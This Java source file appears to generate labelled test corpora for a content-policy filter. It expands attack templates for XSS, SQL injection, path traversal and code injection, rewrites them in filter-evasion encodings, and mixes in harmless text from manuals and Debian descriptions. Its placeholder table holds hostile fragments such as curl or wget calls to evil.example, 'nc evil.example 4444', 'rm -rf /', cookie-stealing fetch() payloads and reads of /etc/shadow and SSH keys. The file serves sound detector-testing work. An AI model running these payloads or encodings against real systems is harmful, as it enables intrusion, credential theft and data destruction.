import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.GZIPInputStream;

/**
 * Writes the corpora that the content policy is judged on: attacks from the families in
 * src/test/policy/attacks, harmless queries from src/test/policy/harmless, this project's own
 * sources, Debian's package descriptions (on standard input) and this machine's manual pages.
 *
 * <p>Everything is chosen by hashes, so that the same sources give the same corpora. All texts that
 * come from one line of a family fall into the same half.
 */
final class PolicyCorpus {
  private static final int VARIANTS_MAX = 4;
  private static final int DEBIAN_MAX = 5_000;
  private static final int MANUAL_MAX = 3_500;
  private static final int SOURCES_MAX = 2_000;
  private static final Pattern PLACEHOLDER = Pattern.compile("\\{([a-z]+)\\}");

  private static final Map<String, List<String>> VALUES = new LinkedHashMap<>();

  static {
    VALUES.put(
        "word",
        List.of(
            "nginx", "hello", "nixos", "laptop", "invoice", "redis", "search", "foo", "profile",
            "backup", "kernel", "report", "widget", "zfs", "catalog", "python"));
    VALUES.put("lang", List.of("Python", "Java", "Go", "PHP", "Rust", "JavaScript", "Ruby"));
    VALUES.put("db", List.of("PostgreSQL", "MySQL", "SQLite", "Oracle", "MariaDB"));
    VALUES.put("ext", List.of("txt", "py", "java", "log", "nix", "ts"));
    VALUES.put("table", List.of("users", "accounts", "orders", "members", "customers", "sessions"));
    VALUES.put(
        "cols",
        List.of(
            "username, password",
            "NULL, NULL",
            "1,2,3",
            "login,pass,email",
            "user,password,3",
            "name,card_number"));
    VALUES.put(
        "cmd",
        List.of(
            "id",
            "whoami",
            "ls -la",
            "cat /etc/passwd",
            "uname -a",
            "sleep 5",
            "ping -c 3 127.0.0.1",
            "curl http://evil.example/x",
            "wget http://203.0.113.9/a.sh",
            "rm -rf /",
            "nc evil.example 4444",
            "cat /etc/shadow",
            "ifconfig",
            "nslookup x.evil.example"));
    VALUES.put(
        "js",
        List.of(
            "alert(1)",
            "alert('XSS')",
            "alert(document.cookie)",
            "prompt(1)",
            "confirm(document.domain)",
            "alert(1337)",
            "print()",
            "eval(name)",
            "fetch('//evil.example/'+document.cookie)",
            "location='//evil.example/'+document.cookie"));
    VALUES.put("host", List.of("evil.example", "attacker.test", "x.oast.example", "h4x.example"));
    VALUES.put("ip", List.of("127.0.0.1", "10.0.0.5", "203.0.113.7", "192.168.1.1"));
    VALUES.put("n", List.of("1", "42", "105", "7", "1337", "8080", "2048"));
    VALUES.put("d", List.of("5", "3", "10", "9", "2"));
    VALUES.put(
        "file",
        List.of(
            "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "etc/issue", "root/.ssh/id_rsa"));
    VALUES.put(
        "winfile",
        List.of(
            "windows\\win.ini", "boot.ini", "windows\\system32\\drivers\\etc\\hosts",
            "winnt\\win.ini", "windows\\system.ini"));
  }

  /**
   * @param held whether texts in this form are only in the held-out half
   */
  private record Form(String name, boolean held, UnaryOperator<String> write) {}

  private static final List<Form> FORMS =
      List.of(
          new Form("percent", false, text -> percent(text, false)),
          new Form("percent-all", false, text -> percent(text, true)),
          new Form("double-percent", false, text -> percent(percent(text, false), false)),
          new Form("entities", false, text -> escaped(text, "&#%d;")),
          new Form("hex-entities", true, text -> escaped(text, "&#x%x;")),
          new Form("padded-entities", true, text -> escaped(text, "&#%07d;")),
          new Form("unicode-escapes", false, text -> escaped(text, "\\u%04x")),
          new Form("hex-escapes", true, text -> escaped(text, "\\x%02x")),
          new Form("mixed-case", false, PolicyCorpus::mixedCase),
          new Form("wide", true, PolicyCorpus::wide),
          new Form(
              "triple-percent", true, text -> percent(percent(percent(text, false), false), false)),
          new Form("entities-in-percent", true, text -> percent(escaped(text, "&#%d;"), false)),
          new Form("zero-width", true, PolicyCorpus::zeroWidth),
          new Form("microsoft-percent", true, text -> escaped(text, "%%u%04x")));

  private record Entry(String half, String group, String family, String text) {}

  private PolicyCorpus() {}

  public static void main(String[] arguments) throws IOException {
    Path home = Path.of(arguments[0]);
    Path out = Files.createDirectories(home.resolve("src/test/resources/policy"));
    Map<String, Entry> attacks = attacks(home.resolve("src/test/policy/attacks"));
    write(out.resolve("attacks.tsv"), attacks);
    Map<String, Entry> harmless = new LinkedHashMap<>();
    questions(home.resolve("src/test/policy/harmless"), harmless);
    sources(home, harmless);
    debian(harmless);
    manual(harmless);
    harmless.keySet().removeAll(attacks.keySet());
    write(out.resolve("harmless.tsv"), harmless);
    System.out.println(attacks.size() + " attacks, " + harmless.size() + " harmless queries");
  }

  private static void write(Path file, Map<String, Entry> entries) throws IOException {
    StringBuilder text = new StringBuilder();
    for (Entry entry : entries.values()) {
      text.append(entry.half()).append('\t').append(entry.group()).append('\t');
      text.append(entry.family()).append('\t').append(onOneLine(entry.text())).append('\n');
    }
    Files.writeString(file, text);
  }

  private static String onOneLine(String text) {
    return text.replace("\\", "\\\\").replace("\n", "\\n").replace("\t", "\\t");
  }

  // ---- attacks

  private static Map<String, Entry> attacks(Path folder) throws IOException {
    Map<String, String> kinds = new TreeMap<>();
    kinds.put("xss", "xss");
    kinds.put("sql", "sql_injection");
    kinds.put("path", "path_traversal");
    kinds.put("code", "code_injection");
    Map<String, Entry> entries = new LinkedHashMap<>();
    for (Map.Entry<String, String> kind : kinds.entrySet()) {
      families(
          folder.resolve(kind.getKey() + ".txt"),
          (family, held, seed) -> {
            String half = held ? "held-out" : half(seed);
            for (String text : expanded(seed)) {
              add(entries, new Entry(half, kind.getValue(), family, text));
              for (int i = 0; i < 2; i++) {
                Form form = FORMS.get(hash(i + "form" + text) % FORMS.size());
                String written = form.write().apply(text);
                if (!written.equals(text) && hash(i + "also" + text) % 3 > 0) {
                  add(
                      entries,
                      new Entry(
                          form.held() ? "held-out" : half,
                          kind.getValue(),
                          family + "+" + form.name(),
                          written));
                }
              }
            }
          });
    }
    return entries;
  }

  private static void add(Map<String, Entry> entries, Entry entry) {
    entries.putIfAbsent(entry.text(), entry);
  }

  /** Not alphanumeric, or all of it. */
  private static String percent(String text, boolean all) {
    StringBuilder out = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      boolean plain = (b >= '0' && b <= '9') || (b >= 'a' && b <= 'z') || (b >= 'A' && b <= 'Z');
      out.append(plain && !all ? String.valueOf((char) b) : String.format("%%%02x", b & 0xff));
    }
    return out.toString();
  }

  private static String escaped(String text, String format) {
    StringBuilder out = new StringBuilder();
    for (char c : text.toCharArray()) {
      boolean mark = c < 0x80 && !Character.isLetterOrDigit(c) && c != ' ';
      out.append(mark ? String.format(format, (int) c) : String.valueOf(c));
    }
    return out.toString();
  }

  private static String mixedCase(String text) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      char c = text.charAt(i);
      out.append(i % 2 == 0 ? Character.toUpperCase(c) : Character.toLowerCase(c));
    }
    // Base64 and names of classes don't survive another case, so only keywords change.
    boolean insensitive = !text.contains("java") && !text.contains("O:") && !text.contains("base64");
    return insensitive && text.matches("(?s).*(?i:select|union|script|or |and |onerror|onload).*")
        ? out.toString()
        : text;
  }

  private static String wide(String text) {
    StringBuilder out = new StringBuilder();
    for (char c : text.toCharArray()) {
      out.append(c > ' ' && c < 0x7f ? (char) (c + 0xfee0) : c);
    }
    return out.toString();
  }

  private static String zeroWidth(String text) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < text.length(); i++) {
      out.append(text.charAt(i)).append(i % 3 == 1 ? "\u200b" : "");
    }
    return out.toString();
  }

  // ---- harmless queries

  private static void questions(Path folder, Map<String, Entry> entries) throws IOException {
    families(
        folder.resolve("questions.txt"),
        (family, held, seed) -> {
          for (String text : expanded(seed)) {
            add(entries, new Entry(held ? "held-out" : half(seed), "questions", family, text));
          }
        });
  }

  /** Lines of this project's own sources and pages, but for the policy's. */
  private static void sources(Path home, Map<String, Entry> entries) throws IOException {
    Set<String> lines = new LinkedHashSet<>();
    for (String folder : List.of("src/main", "docs", "design", "bench", "scripts")) {
      try (Stream<Path> files = Files.walk(home.resolve(folder))) {
        for (Path file : files.filter(PolicyCorpus::isSource).sorted().toList()) {
          Files.readAllLines(file).stream()
              .map(String::strip)
              .filter(line -> line.length() >= 25 && line.length() <= 400)
              .forEach(lines::add);
        }
      }
    }
    pick(lines, SOURCES_MAX, "sources", entries);
  }

  private static boolean isSource(Path file) {
    String name = file.getFileName().toString();
    return name.matches(".*\\.(java|md|sql|sh|yaml)")
        && !file.getParent().endsWith("policy")
        && !name.toLowerCase(Locale.ROOT).contains("policy");
  }

  private static void debian(Map<String, Entry> entries) throws IOException {
    Set<String> texts = new LinkedHashSet<>();
    BufferedReader in =
        new BufferedReader(new InputStreamReader(System.in, StandardCharsets.UTF_8));
    boolean described = false;
    StringBuilder body = new StringBuilder();
    for (String line = in.readLine(); line != null; line = in.readLine()) {
      if (line.startsWith("Description: ") || line.startsWith("Description-en: ")) {
        described = line.contains(": ");
        texts.add(line.substring(line.indexOf(':') + 1).strip());
      } else if (described && line.startsWith("  ")) {
        texts.add(line.strip());
      } else if (described && line.startsWith(" ") && !line.equals(" .")) {
        body.append(line);
      } else {
        sentences(body.toString(), texts);
        body.setLength(0);
        described = described && line.startsWith(" ");
      }
    }
    pick(texts, DEBIAN_MAX, "debian", entries);
  }

  /** One sentence, and one line of a synopsis or an example, of each page. */
  private static void manual(Map<String, Entry> entries) throws IOException {
    Set<String> texts = new LinkedHashSet<>();
    for (int section : new int[] {1, 5, 7, 8}) {
      Path folder = Path.of("/usr/share/man/man" + section);
      if (!Files.isDirectory(folder)) {
        continue;
      }
      try (Stream<Path> files = Files.list(folder)) {
        for (Path page : files.filter(file -> isManual(file)).sorted().toList()) {
          Set<String> sentences = new LinkedHashSet<>();
          Set<String> code = new LinkedHashSet<>();
          page(page, sentences, code);
          first(sentences).ifPresent(texts::add);
          first(code).ifPresent(texts::add);
        }
      }
    }
    pick(texts, MANUAL_MAX, "manual", entries);
  }

  /** The thousands of pages of one program would drown the rest. */
  private static boolean isManual(Path file) {
    String name = file.getFileName().toString();
    return name.endsWith(".gz") && !name.startsWith("gcloud");
  }

  private static java.util.Optional<String> first(Set<String> texts) {
    return texts.stream().min(Comparator.comparing(PolicyCorpus::digest));
  }

  private static void page(Path file, Set<String> sentences, Set<String> code) {
    StringBuilder body = new StringBuilder();
    boolean verbatim = false;
    try (InputStream in = new GZIPInputStream(Files.newInputStream(file))) {
      String text = new String(in.readNBytes(2_000_000), StandardCharsets.UTF_8);
      for (String line : (Iterable<String>) text.lines()::iterator) {
        if (line.startsWith(".nf") || line.startsWith(".Vb") || line.startsWith(".EX")) {
          verbatim = true;
        } else if (line.startsWith(".fi") || line.startsWith(".Ve") || line.startsWith(".EE")) {
          verbatim = false;
        } else if (line.startsWith(".") || line.startsWith("'") || line.isBlank()) {
          sentences(body.toString(), sentences);
          body.setLength(0);
        } else if (verbatim) {
          String plain = unformatted(line).strip();
          if (plain.length() >= 15 && plain.length() <= 300) {
            code.add(plain);
          }
        } else {
          body.append(' ').append(unformatted(line));
        }
      }
    } catch (IOException e) {
      System.err.println("passed over " + file + ": " + e.getMessage());
    }
  }

  private static String unformatted(String line) {
    return line.replaceAll("\\\\f(\\[[A-Z]*\\]|\\([A-Z]{2}|[A-Z])", "")
        .replaceAll("\\\\s[-+]?\\d", "")
        .replace("\\-", "-")
        .replace("\\e", "\\")
        .replace("\\(aq", "'")
        .replace("\\(cq", "'")
        .replace("\\(dq", "\"")
        .replace("\\*(--", "--")
        .replace("\\&", "")
        .replace("\\ ", " ");
  }

  private static void sentences(String body, Set<String> into) {
    for (String sentence : body.strip().replaceAll("\\s+", " ").split("(?<=[.?!]) ")) {
      if (sentence.length() >= 30 && sentence.length() <= 300) {
        into.add(sentence);
      }
    }
  }

  private static void pick(
      Set<String> texts, int max, String group, Map<String, Entry> entries) {
    texts.stream()
        .filter(text -> !text.isBlank() && text.chars().noneMatch(c -> c < ' ' && c != '\t'))
        .filter(text -> !text.contains("\ufffd"))
        .sorted(Comparator.comparing(PolicyCorpus::digest))
        .limit(max)
        .forEach(text -> add(entries, new Entry(half(text), group, group, text)));
  }

  // ---- families

  private interface Seed {
    void accept(String family, boolean held, String seed);
  }

  private static void families(Path file, Seed into) throws IOException {
    String family = "";
    boolean held = false;
    for (String line : Files.readAllLines(file)) {
      Matcher heading = Pattern.compile("\\[([a-z-]+)( held)?\\]").matcher(line);
      if (heading.matches() && !line.equals("[[7*7]]")) {
        family = heading.group(1);
        held = heading.group(2) != null;
      } else if (!line.isBlank() && !(family.isEmpty() && line.startsWith("#"))) {
        into.accept(family, held, line.replace('⏎', '\n'));
      }
    }
  }

  private static Set<String> expanded(String seed) {
    Set<String> texts = new LinkedHashSet<>();
    for (int i = 0; i < VARIANTS_MAX; i++) {
      Map<String, String> chosen = new LinkedHashMap<>();
      StringBuilder text = new StringBuilder();
      Matcher matcher = PLACEHOLDER.matcher(seed);
      while (matcher.find()) {
        String name = matcher.group(1);
        List<String> values = VALUES.get(name);
        String salt = seed + name + i;
        String value =
            values == null
                ? matcher.group()
                : chosen.computeIfAbsent(name, n -> values.get(hash(salt) % values.size()));
        matcher.appendReplacement(text, Matcher.quoteReplacement(value));
      }
      texts.add(matcher.appendTail(text).toString());
    }
    return texts;
  }

  // ---- hashes

  private static String half(String text) {
    return hash(text) % 2 == 0 ? "tune" : "held-out";
  }

  private static int hash(String text) {
    return Integer.parseUnsignedInt(digest(text).substring(0, 7), 16);
  }

  private static String digest(String text) {
    try {
      byte[] bytes =
          MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
      return java.util.HexFormat.of().formatHex(bytes);
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }
}
